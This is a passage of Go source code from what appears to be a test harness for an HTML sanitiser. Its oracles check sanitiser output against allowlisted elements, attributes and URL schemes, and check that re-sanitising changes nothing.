	K string `json:"k"`
	V string `json:"v"`
}

// Tok is an abstract token, the same shape the specification uses.
// T: start end self text comment doctype (input) + space raw (output only).
type Tok struct {
	T string `json:"t"`
	N string `json:"n"`
	A []Attr `json:"a"`
	D string `json:"d"`
}

func (t Tok) String() string {
	switch t.T {
	case "text", "comment", "raw", "doctype":
		return fmt.Sprintf("%s(%q)", t.T, t.D)
	case "space":
		return "space"
	}
	s := t.T + "(" + t.N
	for _, a := range t.A {
		s += fmt.Sprintf(" %s=%q", a.K, a.V)
	}
	return s + ")"
}

// LoopState is the state of the sanitize loop.
type LoopState struct {
	Skip  bool     `json:"skip"`
	Cnt   int64    `json:"cnt"`
	Stack []string `json:"stack"`
	Mrst  string   `json:"mrst"`
}

// ---------------------------------------------------------------------------
// Reversible, concatenation-compatible encoding of byte strings into strings
// that are safe in JSON and in TLC: printable ASCII except % " \ stays, every
// other byte becomes %HH.

const hexd = "0123456789ABCDEF"

func Enc(s string) string {
	clean := true
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x20 || c > 0x7e || c == '%' || c == '"' || c == '\\' {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x20 || c > 0x7e || c == '%' || c == '"' || c == '\\' {
			b.WriteByte('%')
			b.WriteByte(hexd[c>>4])
			b.WriteByte(hexd[c&15])
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

func unhex(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'A' && c <= 'F':
		return int(c-'A') + 10
	}
	return -1
}

func Dec(s string) string {
	if !strings.Contains(s, "%") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			h, l := unhex(s[i+1]), unhex(s[i+2])
			if h >= 0 && l >= 0 {
				b.WriteByte(byte(h<<4 | l))
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func EncAttrs(as []Attr) []Attr {
	out := make([]Attr, len(as))
	for i, a := range as {
		out[i] = Attr{Enc(a.K), Enc(a.V)}
	}
	return out
}

func EncTok(t Tok) Tok {
	return Tok{T: t.T, N: Enc(t.N), A: EncAttrs(t.A), D: Enc(t.D)}
}

func DecTok(t Tok) Tok {
	as := make([]Attr, len(t.A))
	for i, a := range t.A {
		as[i] = Attr{Dec(a.K), Dec(a.V)}
	}
	return Tok{T: t.T, N: Dec(t.N), A: as, D: Dec(t.D)}
}

func EncStrs(ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = Enc(s)
	}
	return out
}

// JSON without HTML escaping, one line.
func JSON(v interface{}) []byte {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	if err := e.Encode(v); err != nil {
		panic(err)
	}
	return bytes.TrimRight(b.Bytes(), "\n")
}

func SortedKeys(m map[string]bool) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// MergeText merges adjacent character data the way a tokenizer reading the
// output back would see it (space tokens are text " ").
func MergeText(toks []Tok) []Tok {
	out := []Tok{}
	for _, t := range toks {
		if t.T == "space" {
			t = Tok{T: "text", D: " ", A: []Attr{}}
		}
		if t.T == "text" && len(out) > 0 && out[len(out)-1].T == "text" {
			out[len(out)-1].D += t.D
			continue
		}
		if t.A == nil {
			t.A = []Attr{}
		}
		out = append(out, t)
	}
	return out
}

func TokEq(a, b Tok) bool {
	if a.T != b.T || a.N != b.N || a.D != b.D || len(a.A) != len(b.A) {
		return false
	}
	for i := range a.A {
		if a.A[i] != b.A[i] {
			return false
		}
	}
	return true
}

func ToksEq(a, b []Tok) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if !TokEq(a[i], b[i]) {
			return false
		}
	}
	return true
}

func ToksString(ts []Tok) string {
	ss := make([]string, len(ts))
	for i, t := range ts {
		ss[i] = t.String()
	}
	return strings.Join(ss, " ")
}

// asciiLower lower-cases A-Z only, which is what HTML tokenisation and the URL and rel-token
// comparisons of a browser do (strings.ToLower would also fold U+0130 and the Kelvin sign).
func asciiLower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
