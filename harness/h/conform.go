package h

import (
	"bytes"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"sort"
	"strings"
)

// The harness' own statement of "a document written in the policy's vocabulary" (C07) and of
// the class of policies for which re-sanitising must be a no-op (C20).

// modelValidURL mirrors what the policy says about URL values (scheme allowlist, custom checks,
// relative on/off) on top of net/url's parse; returns the canonical serialisation.
func (p *AP) modelValidURL(v string) (string, bool) {
	uf, u := ParseLikeValidURL(v)
	if uf.Ws && !uf.Data {
		return "", false
	}
	if uf.Perr {
		return "", false
	}
	if uf.Scheme != "" {
		fids, ok := p.Schemes[uf.Scheme]
		if !ok {
			for _, r := range p.SchemePats {
				if ReOf(r).MatchString(uf.Scheme) {
					return uf.Norm, true
				}
			}
			return "", false
		}
		if len(fids) == 0 {
			return uf.Norm, true
		}
		for _, fid := range fids {
			pol := URLPols[fid]
			if fid == Vocab.DataURIImagesFunc {
				pol = DataURIImagesPolicy
			}
			cp := *u
			if pol != nil && pol(&cp) {
				return uf.Norm, true
			}
		}
		return "", false
	}
	if p.Relative && !uf.Empty {
		return uf.Norm, true
	}
	return "", false
}

// styleCanonical: every declaration of v is accepted for element n and v is already in the
// sanitiser's own serialisation ("p: v; p2: v2").
func (p *AP) styleCanonical(n, v string) bool {
	cf := DouceurDecls(v)
	if cf.Err || len(cf.Decls) == 0 {
		return false
	}
	parts := []string{}
	for _, d := range cf.Decls {
		ok := false
		for _, id := range p.styleRuleIDs(n, d.LP) {
			if StyleMatcher(id)(d.DV) {
				ok = true
			}
		}
		if !ok {
			return false
		}
		parts = append(parts, d.P+": "+d.V)
	}
	return strings.Join(parts, "; ") == v
}

// attrConforms: the policy allows attribute a on element n as it stands.
func (p *AP) attrConforms(n string, a Attr) bool {
	switch {
	case p.DataAttrs && IsDataAttr(a.K):
		return true
	case a.K == "style" && p.hasStyleRules(n):
		return p.styleCanonical(n, a.V)
	case !p.ruleAccepts(n, a.K, a.V):
		return false
	}
	if UrlPos(n, a.K) && p.Parseable {
		norm, ok := p.modelValidURL(a.V)
		if !ok || norm != a.V || (srcEls[n] && p.Rewriter != "") {
			return false
		}
	}
	return true
}

// Conforming: toks is a well-nested document that uses only elements, attributes and values the
// policy allows (no raw-text elements, no doctype; comments only if allowed).
func (p *AP) Conforming(toks []Tok) bool {
	if st, ok := openStack(toks); !ok || len(st) != 0 {
		return false
	}
	for _, t := range toks {
		switch t.T {
		case "start", "self", "end":
			if unsafeName(t.N) || RawEls[t.N] || !p.Known(t.N) {
				return false
			}
			if t.T == "end" {
				continue
			}
			if len(t.A) == 0 && !p.BareOK(t.N) {
				return false
			}
			seen := map[string]bool{}
			for _, a := range t.A {
				if seen[a.K] || !p.attrConforms(t.N, a) {
					return false
				}
				seen[a.K] = true
			}
		case "comment":
			if !p.Comments || strings.Contains(t.D, "--") || strings.HasPrefix(t.D, ">") || strings.HasPrefix(t.D, "-") || strings.HasSuffix(t.D, "-") {
				return false
			}
		case "doctype":
			return false
		}
	}
	return true
}

// stripForced removes the attributes the policy instructs the sanitiser to add or rewrite.
func (p *AP) stripForced(n string, as []Attr) []Attr {
	out := []Attr{}
	for _, a := range as {
		if p.forced(n, Attr{a.K, a.V}) || (a.K == "target" && p.TargetBlank && n == "a") {
			continue
		}
		out = append(out, a)
	}
	return out
}

func (p *AP) anyForcing() bool {
	return p.anyLinkOption() || p.CrossOrigin || p.SandboxOn
}

// C07 oracle: a conforming document in canonical serialisation is returned byte for byte, except
// for attributes the policy instructs the sanitiser to add or rewrite.
func oracleC07(x *Exec) []Finding {
	p := x.Model
	if p.Unsafe || !p.Conforming(x.InToks) {
		return nil
	}
	if string(Serialise(x.InToks, nil)) != string(x.Input) {
		return nil // not in canonical serialisation
	}
	if !p.anyForcing() {
		if string(x.Output) != string(x.Input) {
			return []Finding{{"C07", "changed", fmt.Sprintf("conforming canonical document was changed: %q -> %q", x.Input, x.Output)}}
		}
		return nil
	}
	if len(x.OutToks) != len(x.InToks) {
		return []Finding{{"C07", "changed", fmt.Sprintf("conforming document lost or gained tokens: %q -> %q", x.Input, x.Output)}}
	}
	for i, t := range x.InToks {
		o := x.OutToks[i]
		if t.T != o.T || t.N != o.N || t.D != o.D {
			return []Finding{{"C07", "changed", fmt.Sprintf("conforming document changed at token %d: %s -> %s", i+1, t, o)}}
		}
		if isTag(t) && !attrsEqual(p.stripForced(t.N, t.A), p.stripForced(o.N, o.A)) {
			return []Finding{{"C07", "changed-attrs", fmt.Sprintf("conforming tag changed beyond the forced attributes: %s -> %s", t, o)}}
		}
	}
	return nil
}

func attrsEqual(a, b []Attr) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

var rewrittenKeys = []string{"href", "cite", "src", "rel", "target", "crossorigin", "sandbox"}

// InClass20: the class of policies for which re-sanitising must be a no-op.
func (p *AP) InClass20() bool {
	if p.Unsafe || p.Comments || p.Rewriter != "" {
		return false
	}
	for n := range RawEls {
		if p.Known(n) {
			return false
		}
	}
	onlyAny := func(r map[string][]string) bool {
		for _, k := range rewrittenKeys {
			for _, id := range r[k] {
				if id != "ANY" {
					return false
				}
			}
		}
		return true
	}
	for _, r := range p.ElAttrs {
		if !onlyAny(r) {
			return false
		}
	}
	for _, r := range p.PatAttrs {
		if !onlyAny(r) {
			return false
		}
	}
	return onlyAny(p.GlobalAttrs)
}

// ugcException: UGCPolicy itself is in the class whenever no del/ins cite survives the first pass.
func ugcException(x *Exec) bool {
	if len(x.Recipe) != 1 || x.Recipe[0].M != "UGCPolicy" {
		return false
	}
	for _, t := range x.OutToks {
		if (t.N == "del" || t.N == "ins") && (t.T == "start" || t.T == "self") {
			for _, a := range t.A {
				if a.K == "cite" {
					return false
				}
			}
		}
	}
	return true
}

// C20 oracle: Sanitize(Sanitize(x)) == Sanitize(x).
func oracleC20(x *Exec) []Finding {
	if !(x.Model.InClass20() || ugcException(x)) {
		return nil
	}
	once := string(x.Output)
	twice := x.Real.Sanitize(once)
	if twice != once {
		return []Finding{{"C20", c20Key(x, once, twice), fmt.Sprintf("Sanitize(%q) = %q but sanitising that again gives %q", x.Input, once, twice)}}
	}
	return nil
}

// c20Key classifies a failure of idempotence (the known-findings file lists one narrow class): "rel-target-order" when the
// two passes differ ONLY in the order of the rel and target attributes of <a> tags of a policy that admits target on a but
// no rel (the first pass appends rel then target, the second finds target in place and appends rel behind it: both orders
// are pinned by the library's own tests); anything else is "not-idempotent".
func c20Key(x *Exec, once, twice string) string {
	a, b := Tokens([]byte(once)), Tokens([]byte(twice))
	if len(a) != len(b) {
		return "not-idempotent"
	}
	orderOnly := false
	for i := range a {
		if a[i].String() == b[i].String() {
			continue
		}
		if a[i].T != b[i].T || a[i].N != b[i].N || a[i].D != b[i].D || len(a[i].A) != len(b[i].A) || a[i].N != "a" {
			return "not-idempotent"
		}
		// same attributes, and the only ones that moved are rel and target
		ra, rb := []Attr{}, []Attr{}
		for _, at := range a[i].A {
			if at.K != "rel" && at.K != "target" {
				ra = append(ra, at)
			}
		}
		for _, at := range b[i].A {
			if at.K != "rel" && at.K != "target" {
				rb = append(rb, at)
			}
		}
		if fmt.Sprint(ra) != fmt.Sprint(rb) {
			return "not-idempotent"
		}
		ma, mb := map[string]string{}, map[string]string{}
		for _, at := range a[i].A {
			ma[at.K+"\x00"+at.V] = ""
		}
		for _, at := range b[i].A {
			mb[at.K+"\x00"+at.V] = ""
		}
		if len(ma) != len(mb) {
			return "not-idempotent"
		}
		for k := range ma {
			if _, ok := mb[k]; !ok {
				return "not-idempotent"
			}
		}
		if x.Model.ruleAccepts("a", "rel", "nofollow") || len(x.Model.AttrRuleIDs("a", "rel")) > 0 || len(x.Model.AttrRuleIDs("a", "target")) == 0 {
			return "not-idempotent"
		}
		orderOnly = true
	}
	if orderOnly {
		return "rel-target-order"
	}
	return "not-idempotent"
}

func init() {
	Oracles["C07"] = oracleC07
	Oracles["C20"] = oracleC20
}

// GenConformingDoc builds a well-nested document from the policy's own vocabulary.
func GenConformingDoc(r *rand.Rand, p *AP) []Tok {
	els := []string{}
	for el := range p.ElAttrs {
		if !RawEls[el] && !unsafeName(el) {
			els = append(els, el)
		}
	}
	for _, n := range append(append([]string{}, genPatEls...), "h2", "em", "font") {
		if !p.Explicit(n) && p.Known(n) {
			els = append(els, n)
		}
	}
	els = addSet(els)
	if len(els) == 0 {
		return []Tok{{T: "text", D: "T1z", A: []Attr{}}}
	}
	mark := 0
	var gen func(depth, budget int) []Tok
	attrsFor := func(n string) []Attr {
		keys := []string{}
		for k := range p.ElAttrs[n] {
			keys = append(keys, k)
		}
		for _, pat := range p.PatsFor(n) {
			for k := range p.PatAttrs[pat] {
				keys = append(keys, k)
			}
		}
		for k := range p.GlobalAttrs {
			keys = append(keys, k)
		}
		if p.DataAttrs {
			keys = append(keys, "data-x")
		}
		if p.hasStyleRules(n) {
			keys = append(keys, "style")
		}
		keys = addSet(keys)
		as := []Attr{}
		seen := map[string]bool{}
		for tries := 0; tries < 6 && len(keys) > 0; tries++ {
			k := pickS(r, keys)
			if seen[k] {
				continue
			}
			for vt := 0; vt < 6; vt++ {
				v := GenAttrValue(r, k)
				if k == "style" {
					v = pickS(r, []string{"color: red", "color: blue; font-size: 12px", "text-align: center", "width: 12px", "background: red"})
				}
				if p.attrConforms(n, Attr{k, v}) {
					as = append(as, Attr{k, v})
					seen[k] = true
					break
				}
			}
		}
		return as
	}
	gen = func(depth, budget int) []Tok {
		out := []Tok{}
		for budget > 0 {
			budget--
			if r.Intn(3) == 0 {
				mark++
				out = append(out, Tok{T: "text", D: fmt.Sprintf("T%dz", mark), A: []Attr{}})
				continue
			}
			if p.Comments && r.Intn(8) == 0 {
				mark++
				out = append(out, Tok{T: "comment", D: fmt.Sprintf(" C%dz ", mark), A: []Attr{}})
				continue
			}
			n := pickS(r, els)
			as := attrsFor(n)
			if len(as) == 0 && !p.BareOK(n) {
				continue
			}
			if VoidEls[n] {
				out = append(out, Tok{T: "start", N: n, A: as})
				continue
			}
			out = append(out, Tok{T: "start", N: n, A: as})
			if depth < 3 {
				sub := r.Intn(3)
				out = append(out, gen(depth+1, sub)...)
				budget -= sub
			}
			out = append(out, Tok{T: "end", N: n, A: []Attr{}})
		}
		m := []Tok{}
		for _, t := range out {
			if t.T == "text" && len(m) > 0 && m[len(m)-1].T == "text" {
				m[len(m)-1].D += " " + t.D
				continue
			}
			m = append(m, t)
		}
		return m
	}
	return gen(0, 2+r.Intn(6))
}

// cmdTwiceBig: C20 on inputs whose first-pass output is several times larger than the input (every character escaped) or
// simply large: whatever limit a second pass might run into, Sanitize(Sanitize(x)) must still equal Sanitize(x).
func cmdTwiceBig(args []string) int {
	fs := flag.NewFlagSet("twicebig", flag.ExitOnError)
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "twicebig", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	inputs := map[string]string{
		"300 KiB of double quotes":          strings.Repeat(`"`, 300<<10),
		"300 KiB of ampersands":             strings.Repeat(`&`, 300<<10),
		"200 KiB of less-than signs + text": strings.Repeat(`< `, 100<<10) + "end",
		"1.2 MiB of plain text":             strings.Repeat("plain text ", 120000),
		"64 KiB href of non-ASCII letters":  `<a href="/` + strings.Repeat("é", 32<<10) + `">l</a>`,
		"many small escaped tags":           strings.Repeat(`<blink>"&'</blink>`, 40000),
	}
	names := []string{}
	for k := range inputs {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, rc := range []Recipe{{{M: "StrictPolicy"}}, {{M: "UGCPolicy"}}} {
		rc[0].norm()
		real, model := BuildReal(rc), BuildAP(rc)
		for _, n := range names {
			in := []byte(inputs[n])
			once := real.SanitizeBytes(append([]byte{}, in...))
			twice := real.SanitizeBytes(append([]byte{}, once...))
			res.Execs++
			res.Applicable["C20"]++
			if !bytes.Equal(once, twice) {
				short := func(b []byte) string {
					if len(b) > 60 {
						return fmt.Sprintf("%q… (%d bytes)", b[:60], len(b))
					}
					return fmt.Sprintf("%q", b)
				}
				x := NewExec(rc, model, real, []byte("generator: "+n), nil, nil)
				res.addViolation(Finding{"C20", "not-idempotent-large", fmt.Sprintf("%s under %s: the first pass gives %s, sanitising that again gives %s", n, rc[0].M, short(once), short(twice))}, x, seen)
			}
		}
	}
	res.Cases = res.Execs
	res.Nontrivial = res.Execs
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("twicebig: execs=%d violations=%d\n", res.Execs, len(res.Violations))
	return 0
}

func init() { Commands["twicebig"] = cmdTwiceBig }
