package h

import (
	"fmt"
	"strings"
)

// C04: the shipped policies.  The allowlist the oracle uses is the documented UGC vocabulary
// (spec/ugc_vocabulary.json), never the real policy.

var c04Forbidden = map[string]bool{"script": true, "style": true, "iframe": true, "object": true, "embed": true, "form": true,
	"input": true, "button": true, "select": true, "textarea": true, "option": true, "base": true, "meta": true, "link": true}

func shippedKind(r Recipe) string {
	if len(r) != 1 {
		return ""
	}
	switch r[0].M {
	case "UGCPolicy":
		return "ugc"
	case "StrictPolicy":
		return "strict"
	}
	return ""
}

func ugcAttrAllowed(n, k string) bool {
	if _, ok := UGCVocab.ElAttrs[n][k]; ok {
		return true
	}
	if _, ok := UGCVocab.GlobalAttrs[k]; ok {
		return true
	}
	return k == "rel" && hrefEls[n] // added by RequireNoFollowOnLinks
}

func checkUGCNode(where, n string, attrs []Attr) []Finding {
	var fs []Finding
	ln := asciiLower(n)
	if c04Forbidden[ln] {
		fs = append(fs, Finding{"C04", "forbidden:" + ln, fmt.Sprintf("%s: <%s> element in UGCPolicy output", where, n)})
	}
	if _, ok := UGCVocab.ElAttrs[ln]; !ok && !ImpliedElements[ln] {
		fs = append(fs, Finding{"C04", "element:" + ln, fmt.Sprintf("%s: element <%s> is not in the documented UGC vocabulary", where, n)})
		return fs
	}
	for _, a := range attrs {
		lk := asciiLower(a.K)
		switch {
		case strings.HasPrefix(lk, "on"):
			fs = append(fs, Finding{"C04", "handler:" + lk, fmt.Sprintf("%s: event-handler attribute %s on <%s>", where, a.K, n)})
		case lk == "style":
			fs = append(fs, Finding{"C04", "style-attr", fmt.Sprintf("%s: style attribute on <%s>", where, n)})
		case !ugcAttrAllowed(ln, lk):
			fs = append(fs, Finding{"C04", "attr:" + ln + ":" + lk, fmt.Sprintf("%s: attribute %s on <%s> is not in the documented UGC vocabulary", where, a.K, n)})
		}
		if UrlPos(ln, lk) {
			kind, scheme := URLClassW(a.V)
			if kind == "scheme" && scheme != "http" && scheme != "https" && scheme != "mailto" {
				fs = append(fs, Finding{"C04", "scheme:" + scheme, fmt.Sprintf("%s: <%s %s=%q> has scheme %q", where, n, a.K, a.V, scheme)})
			}
		}
	}
	return fs
}

func oracleC04(x *Exec) []Finding {
	var fs []Finding
	switch shippedKind(x.Recipe) {
	case "strict":
		for _, t := range x.OutToks {
			if t.T != "text" {
				fs = append(fs, Finding{"C04", "strict-markup", fmt.Sprintf("StrictPolicy output contains markup: %s", t)})
			}
		}
		for _, ctx := range VerdictContexts {
			nodes, err := ParseIn(x.Output, ctx)
			if err != nil {
				continue
			}
			for _, n := range nodes {
				if n.Kind != "text" {
					fs = append(fs, Finding{"C04", "strict-dom", fmt.Sprintf("StrictPolicy output parsed in <%s> yields a %s node %s%s", ctx, n.Kind, n.Name, n.Data)})
				}
			}
			if len(fs) > 0 {
				break
			}
		}
	case "ugc":
		for _, t := range x.OutToks {
			switch {
			case t.T == "start" || t.T == "self":
				fs = append(fs, checkUGCNode("token", t.N, t.A)...)
			case t.T == "end":
				fs = append(fs, checkUGCNode("token", t.N, nil)...)
			case t.T == "comment" || t.T == "doctype":
				fs = append(fs, Finding{"C04", "ugc-" + t.T, fmt.Sprintf("UGCPolicy output contains a %s", t)})
			}
		}
		if len(fs) > 0 {
			return fs
		}
		for _, ctx := range VerdictContexts {
			nodes, err := ParseIn(x.Output, ctx)
			if err != nil {
				continue
			}
			for _, n := range nodes {
				switch n.Kind {
				case "element":
					fs = append(fs, checkUGCNode("DOM in <"+ctx+">", n.Name, n.Attrs)...)
				case "comment", "doctype":
					fs = append(fs, Finding{"C04", "ugc-dom-" + n.Kind, fmt.Sprintf("DOM in <%s> contains a %s node %q", ctx, n.Kind, n.Data)})
				}
			}
			if len(fs) > 0 {
				break
			}
		}
		// converse: a document written in the vocabulary passes unchanged apart from rel="nofollow"
		fs = append(fs, relabel(oracleC07(x), "C04")...)
	}
	return fs
}

func relabel(fs []Finding, prop string) []Finding {
	out := []Finding{}
	for _, f := range fs {
		out = append(out, Finding{prop, "converse-" + f.Key, f.Detail})
	}
	return out
}

func init() {
	Oracles["C04"] = oracleC04
	Applies["C04"] = func(x *Exec) bool { return shippedKind(x.Recipe) != "" && len(x.Input) > 0 }
}
