package h

import (
	"fmt"
	"net/url"
	"strings"
)

var (
	hrefEls  = map[string]bool{"a": true, "area": true, "base": true, "link": true}
	citeEls  = map[string]bool{"blockquote": true, "del": true, "ins": true, "q": true}
	srcEls   = map[string]bool{"audio": true, "embed": true, "iframe": true, "img": true, "input": true, "script": true, "source": true, "track": true, "video": true}
	crossEls = map[string]bool{"audio": true, "img": true, "link": true, "script": true, "video": true}
)

// UrlPos: the URL attribute positions the property names.
func UrlPos(n, k string) bool {
	return hrefEls[n] && k == "href" || citeEls[n] && k == "cite" || srcEls[n] && k == "src"
}

func (p *AP) anyLinkOption() bool {
	return p.NoFollow || p.NoFollowFQ || p.NoReferrer || p.NoReferrerFQ || p.TargetBlank
}

// forced: an attribute the policy instructs the sanitiser to add or force
func (p *AP) forced(n string, a Attr) bool {
	switch a.K {
	case "rel":
		return p.anyLinkOption() && hrefEls[n]
	case "target":
		return p.TargetBlank && n == "a" && a.V == "_blank"
	case "crossorigin":
		return p.CrossOrigin && crossEls[n]
	case "sandbox":
		return p.SandboxOn && n == "iframe"
	}
	return false
}

func (p *AP) hasStyleRules(n string) bool {
	if len(p.GlobalStyles) > 0 || len(p.ElStyles[n]) > 0 {
		return true
	}
	for pat, r := range p.PatStyles {
		if len(r) > 0 && ReOf(pat).MatchString(n) {
			return true
		}
	}
	return false
}

// styleRuleIDs: the matchers registered for property prop on element n (element rules, or the
// rules of matching patterns when the element has none of its own) plus the global ones.
func (p *AP) styleRuleIDs(n, prop string) []string {
	ids := []string{}
	if len(p.ElStyles[n]) > 0 {
		ids = append(ids, p.ElStyles[n][prop]...)
	} else {
		for pat, r := range p.PatStyles {
			if ReOf(pat).MatchString(n) {
				ids = append(ids, r[prop]...)
			}
		}
	}
	ids = append(ids, p.GlobalStyles[prop]...)
	return addSet(nil, ids...)
}

func (p *AP) ruleAccepts(n, k, v string) bool {
	for _, id := range p.AttrRuleIDs(n, k) {
		if MatchAttr(id, v) {
			return true
		}
	}
	return false
}

// sanitiserMade: a value only the sanitiser itself writes.
func sanitiserMade(a Attr) bool {
	switch a.K {
	case "rel":
		for t := range relToks(a.V) {
			if t != "nofollow" && t != "noreferrer" && t != "noopener" {
				return false
			}
		}
		return true
	case "target":
		return a.V == "_blank"
	case "crossorigin":
		return a.V == "anonymous"
	case "sandbox":
		return a.V == ""
	}
	return false
}

// emittedTags pairs every tag the real code wrote with the attributes it read for it.
type emittedTag struct {
	N      string
	Before []Attr
	After  []Attr
}

func emittedTags(x *Exec) []emittedTag {
	out := []emittedTag{}
	if x.Rec == nil {
		return out
	}
	for _, te := range x.Rec.Toks {
		for _, w := range te.Writes {
			if (w.Tok.T == "start" || w.Tok.T == "self") && !w.Err {
				out = append(out, emittedTag{w.Tok.N, te.Tok.A, w.Tok.A})
			}
		}
	}
	return out
}

// outputTagsAgree: the tags read back from the output bytes are the tags the hook saw written.
func outputTagsAgree(x *Exec, ets []emittedTag) bool {
	i := 0
	for _, t := range x.OutToks {
		if t.T != "start" && t.T != "self" {
			continue
		}
		if i >= len(ets) || ets[i].N != t.N || len(ets[i].After) != len(t.A) {
			return false
		}
		for j := range t.A {
			if t.A[j] != ets[i].After[j] {
				return false
			}
		}
		i++
	}
	return i == len(ets)
}

// ---------------------------------------------------------------------------
// C02
func oracleC02(x *Exec) []Finding {
	if x.Model.Unsafe {
		return nil
	}
	p := x.Model
	var fs []Finding
	ets := emittedTags(x)
	if !outputTagsAgree(x, ets) {
		// names containing markup characters can make the output read back differently; C01 judges that.
		// Fall back to judging what was written.
	}
	for _, et := range ets {
		if len(et.After) == 0 && !p.BareOK(et.N) {
			fs = append(fs, Finding{"C02", "bare:" + et.N, fmt.Sprintf("<%s> emitted without attributes although the policy permits it only with attributes", et.N)})
		}
		for _, a := range et.After {
			ok := false
			hasSame := false
			for _, b := range et.Before {
				if b.K != a.K {
					continue
				}
				hasSame = true
				if p.DataAttrs && IsDataAttr(a.K) && b.V == a.V {
					ok = true
				}
				if a.K == "style" && p.hasStyleRules(et.N) {
					ok = true // governed by the style rules (C10)
				}
				if p.ruleAccepts(et.N, a.K, b.V) && (a.V == b.V || (UrlPos(et.N, a.K) && p.Parseable) || p.forced(et.N, a)) {
					ok = true
				}
			}
			_ = hasSame
			if p.forced(et.N, a) && sanitiserMade(a) {
				ok = true // written by the sanitiser itself
			}
			if !ok {
				fs = append(fs, Finding{"C02", "attr:" + et.N + ":" + a.K, fmt.Sprintf("<%s %s=%q> emitted but no rule of the policy accepts it (input attributes %v)", et.N, a.K, a.V, et.Before)})
			}
		}
	}
	return fs
}

// ---------------------------------------------------------------------------
// C03
var rewrittenBy = map[string]func(string) bool{}

func init() {
	rewrittenBy["f:"+FuncName(RewriteProxy)] = func(v string) bool { return strings.HasPrefix(v, "https://proxy.example/p?u=") }
	rewrittenBy["f:"+FuncName(RewriteNoop)] = func(v string) bool { return true }
}

func (p *AP) schemeAllowed(s string) bool {
	if _, ok := p.Schemes[s]; ok {
		return true
	}
	for _, r := range p.SchemePats {
		if ReOf(r).MatchString(s) {
			return true
		}
	}
	return false
}

func checkURLValue(p *AP, n, k, v string) string {
	if srcEls[n] && p.Rewriter != "" {
		if f := rewrittenBy[p.Rewriter]; f != nil && !f(v) {
			return "is not the result of the installed src rewriter"
		}
		return ""
	}
	kind, scheme := URLClassW(v)
	switch kind {
	case "scheme":
		if !p.schemeAllowed(scheme) {
			return fmt.Sprintf("resolves to scheme %q which is not on the allowlist %v", scheme, SortedKeysF(p.Schemes))
		}
		if fids := p.Schemes[scheme]; len(fids) > 0 {
			u, err := url.Parse(strings.TrimSpace(v))
			if err != nil {
				return "cannot be parsed, so no custom check can have approved it"
			}
			approved := false
			for _, fid := range fids {
				pol := URLPols[fid]
				if fid == Vocab.DataURIImagesFunc {
					pol = DataURIImagesPolicy
				}
				if pol != nil && pol(u) {
					approved = true
				}
			}
			if !approved {
				return fmt.Sprintf("has scheme %q but none of its custom checks approves it", scheme)
			}
		}
		if scheme != "data" {
			for i := 0; i < len(v); i++ {
				if v[i] <= 0x20 || v[i] == 0x7f {
					return "contains whitespace or a control character"
				}
			}
		}
	case "relative":
		if !p.Relative {
			return "is a relative reference but relative URLs are not allowed"
		}
		for i := 0; i < len(v); i++ {
			if v[i] <= 0x20 || v[i] == 0x7f {
				return "contains whitespace or a control character"
			}
		}
	default:
		return "is empty"
	}
	return ""
}

func oracleC03(x *Exec) []Finding {
	p := x.Model
	if p.Unsafe || !p.Parseable {
		return nil
	}
	var fs []Finding
	for _, t := range x.OutToks {
		if t.T != "start" && t.T != "self" {
			continue
		}
		for _, a := range t.A {
			if !UrlPos(t.N, a.K) {
				continue
			}
			if why := checkURLValue(p, t.N, a.K, a.V); why != "" {
				fs = append(fs, Finding{"C03", t.N + "[" + a.K + "]", fmt.Sprintf("<%s %s=%q> survives but the URL %s", t.N, a.K, a.V, why)})
			}
		}
	}
	if len(fs) > 0 {
		return fs
	}
	for _, ctx := range []string{"body", "div", "td"} {
		nodes, err := ParseIn(x.Output, ctx)
		if err != nil {
			continue
		}
		for _, n := range nodes {
			if n.Kind != "element" {
				continue
			}
			for _, a := range n.Attrs {
				if UrlPos(n.Name, a.K) {
					if why := checkURLValue(p, n.Name, a.K, a.V); why != "" {
						fs = append(fs, Finding{"C03", "dom:" + n.Name + "[" + a.K + "]", fmt.Sprintf("DOM (in <%s>) <%s %s=%q>: the URL %s", ctx, n.Name, a.K, a.V, why)})
					}
				}
			}
		}
	}
	return fs
}

// ---------------------------------------------------------------------------
// C11
func relToks(v string) map[string]int {
	m := map[string]int{}
	for _, t := range strings.FieldsFunc(v, func(r rune) bool { return r == ' ' || r == '\t' || r == '\n' || r == '\f' || r == '\r' }) {
		m[asciiLower(t)]++
	}
	return m
}

func firstAttr(as []Attr, k string) (string, bool) {
	for _, a := range as {
		if a.K == k {
			return a.V, true
		}
	}
	return "", false
}

func oracleC11(x *Exec) []Finding {
	p := x.Model
	if p.Unsafe || !p.anyLinkOption() {
		return nil
	}
	var fs []Finding
	for _, et := range emittedTags(x) {
		if et.N != "a" && et.N != "area" && et.N != "link" {
			continue
		}
		href, ok := firstAttr(et.After, "href")
		if !ok {
			continue
		}
		// host-qualified: as a browser reads the element, i.e. by its first href attribute (later duplicates are ignored)
		ext := HasHostW(href)
		rel, hasRel := firstAttr(et.After, "rel")
		toks := relToks(rel)
		desc := fmt.Sprintf("<%s%s> (from %v)", et.N, attrsString(et.After), et.Before)
		need := func(tok string, why string) {
